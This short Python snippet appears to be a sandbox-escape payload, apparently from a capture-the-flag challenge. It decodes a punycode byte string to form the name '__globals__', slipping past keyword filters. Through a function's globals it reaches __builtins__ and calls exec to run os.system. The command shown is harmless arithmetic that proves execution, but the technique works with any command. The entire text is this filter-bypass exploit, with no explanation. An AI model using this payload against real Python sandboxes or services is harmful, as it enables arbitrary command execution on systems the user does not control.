def f(): pass
z=getattr(f,b"__globals__-".decode("punycode"))
z["__builtins__"].exec("import os;os.system('expr 40 + 1001')")
